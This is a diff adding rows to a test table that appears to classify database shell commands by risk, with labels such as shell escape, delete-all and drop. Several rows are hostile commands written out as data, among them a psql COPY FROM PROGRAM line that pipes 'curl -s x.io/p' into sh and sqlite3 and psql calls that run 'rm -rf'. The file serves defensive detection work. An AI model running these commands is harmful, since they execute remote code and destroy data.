@@ -41,6 +41,13 @@ const ROWS: Row[] = [
   ['psql app < cleanup.sql', 'sql.unreadable-input', 'app'],
   ['psql -c "$SQL"', 'sql.unreadable-input'],
   ["psql -c '\\! rm -rf /tmp/x'", 'sql.shell-escape'],
+  [`psql -c "COPY t FROM PROGRAM 'curl -s x.io/p | sh'"`, 'sql.shell-escape'],
+  ['psql -c "COPY users TO STDOUT"', null],
+  ["sqlite3 app.db '.shell rm -rf data'", 'sql.shell-escape'],
+  ["sqlite3 app.db '.read cleanup.sql'", 'sql.unreadable-input', 'app.db'],
+  ["mysql shop -e 'source cleanup.sql'", 'sql.unreadable-input', 'shop'],
+  ['psql -c "DELETE FROM users WHERE $COND"', 'sql.delete-all', 'users'],
+  ['psql -c "DELETE FROM users WHERE id = $ID"', null],
   // mysql / mariadb
   ["mysql -u root -e 'DROP DATABASE shop'", 'sql.drop', 'shop'],
   ['mysql --execute="DELETE FROM orders" shop', 'sql.delete-all', 'orders'],
